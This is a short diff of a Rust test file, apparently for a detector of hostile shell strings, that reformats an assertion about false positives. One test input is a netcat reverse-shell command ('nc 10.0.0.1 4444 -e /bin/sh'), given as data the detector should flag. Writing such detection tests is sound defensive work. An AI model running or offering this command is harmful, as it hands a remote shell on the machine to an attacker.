@@ -705,7 +705,11 @@ fn program_named_last_and_gnu_quotes() {
         "Port to the old /bin/sh",
         "* `zless' is now always installed as `zless', not `gzless'.",
     ] {
-        assert!(lowest_level(b) > 2, "false positive at {}: {b}", lowest_level(b));
+        assert!(
+            lowest_level(b) > 2,
+            "false positive at {}: {b}",
+            lowest_level(b)
+        );
     }
     for a in [
         "nc 10.0.0.1 4444 -e /bin/sh",
